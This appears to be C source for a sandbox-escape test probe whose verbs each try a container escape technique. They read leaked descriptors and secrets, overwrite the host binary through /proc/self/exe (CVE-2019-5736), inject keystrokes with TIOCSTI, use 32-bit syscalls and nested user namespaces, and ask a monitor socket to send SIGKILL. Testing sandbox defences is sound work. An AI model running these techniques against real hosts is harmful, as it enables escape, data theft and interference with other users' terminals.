#include "probe.h"

/* --- what scripts/attack tries: each leaves a trace on the host where it works, and nowhere else */

int verb_cat(char **paths) {
    char buffer[4096];
    for (; *paths; paths++) {
        int file = open(*paths, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        for (ssize_t count; file >= 0 && (count = read(file, buffer, sizeof buffer)) > 0;) fwrite(buffer, 1, (size_t)count, stdout);
        if (file >= 0) close(file);
    }
    return 0;
}

/* Everything that can be read through a descriptor that nobody gave it. */
int verb_descriptors(void) {
    char buffer[4096], path[64];
    for (int number = 3; number < 256; number++) {
        ssize_t count = pread(number, buffer, sizeof buffer, 0);
        if (count > 0) fwrite(buffer, 1, (size_t)count, stdout);
        snprintf(path, sizeof path, "/proc/self/fd/%d/secret", number);
        char *both[] = {path, NULL};
        verb_cat(both);
    }
    return 0;
}

int verb_kill(char **pids) {
    for (; *pids; pids++) say(*pids, kill(atoi(*pids), SIGKILL));
    return 0;
}

/* Whether all of a file was written to another. */
static int copied(int from, int to) {
    char buffer[65536];
    ssize_t count;
    if (from < 0 || to < 0 || lseek(from, 0, SEEK_SET) < 0) return 0;
    while ((count = read(from, buffer, sizeof buffer)) > 0)
        if (write(to, buffer, (size_t)count) != count) return 0;
    return count == 0;
}

/* own-program COPY CANARY OTHER: a copy of itself, executed by its path, leaves a canary; one in memory leaves the other. */
int verb_own_program(char **words) {
    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int copy = open(words[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    int memory = (int)syscall(SYS_memfd_create, "x", 0);
    say("copy", copied(self, copy) ? 0 : -1);
    if (copy >= 0) close(copy);
    say("memory", copied(self, memory) ? 0 : -1);
    char *by_path[] = {words[0], "touch", "w", words[1], NULL}, *from_memory[] = {words[0], "touch", "w", words[2], NULL};
    if (fork() == 0) { execv(words[0], by_path); _exit(1); }
    if (memory >= 0 && fork() == 0) { syscall(SYS_execveat, memory, "", from_memory, environ, AT_EMPTY_PATH); _exit(1); }
    while (wait(NULL) > 0) {}
    return 0;
}

/* Adds to files, and makes those that are missing. What is added is no word of a command line, and so in no record of one. */
int verb_append(char **paths) {
    for (; *paths; paths++) {
        int file = open(*paths, O_WRONLY | O_APPEND | O_CREAT | O_CLOEXEC | O_NONBLOCK, 0666);
        say(*paths, file >= 0 && write(file, "APPENDED\n", 9) == 9 ? 0 : -1);
        if (file >= 0) close(file);
    }
    return 0;
}

/* Its own program, held by a descriptor while another takes its place, so that it is no longer busy (CVE-2019-5736). */
int verb_append_to_self(char **words) {
    char path[64];
    int self = open("/proc/self/exe", O_PATH);
    snprintf(path, sizeof path, "/proc/self/fd/%d", self);
    char *arguments[] = {words[0], "append", path, NULL};
    execv(words[0], arguments);
    say("execute", -1);
    return 0;
}

/* Asks the monitor behind a control socket for SIGKILL: version 1, request 1 (Sources/Records/ControlMessage.swift). */
int verb_request_kill(char **words) {
    static const char message[] = {1, 0, 1, SIGKILL, 0, 0, 0};
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int file = socket(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0);
    if (strlen(words[0]) >= sizeof to.sun_path) return 1;
    strcpy(to.sun_path, words[0]);
    int failed = connect(file, (struct sockaddr *)&to, sizeof to) || send(file, message, sizeof message, 0) < 0;
    say("request", failed ? -1 : 0);
    /* Hanging up at once might be seen before the request is. */
    usleep(100000);
    return 0;
}

/* A directory made by the 32-bit way: mkdir is 39 there, and its argument an address below 4 GiB. */
int verb_foreign(char **words) {
#if defined __x86_64__
    char *path = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (path == MAP_FAILED || strlen(words[0]) >= 4096) return 1;
    strcpy(path, words[0]);
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(39), "b"(path), "c"(0755) : "memory", "r8", "r9", "r10", "r11");
    printf("foreign %ld\n", result);
#else
    (void)words;
    puts("foreign none");
#endif
    return 0;
}

/* Letters into the terminal that the caller reads. */
int verb_push(char **words) {
    for (int file = 0; file < 3; file++)
        for (char *letter = words[0]; *letter; letter++) ioctl(file, TIOCSTI, letter);
    int terminal = open("/dev/tty", O_RDWR);
    for (char *letter = words[0]; terminal >= 0 && *letter; letter++) ioctl(terminal, TIOCSTI, letter);
    return 0;
}

/* nested SOURCE DIRECTORY: a child goes to a user namespace of its own and mounts something of that name there; both stay, so
 * that the host can look at them. */
int verb_nested(char **words) {
    if (fork() == 0) {
        int failed = unshare(CLONE_NEWUSER | CLONE_NEWNS);
        say("unshare", failed);
        if (!failed) say("mount", syscall(SYS_mount, words[0], words[1], "tmpfs", 0, 0));
    }
    stay();
}
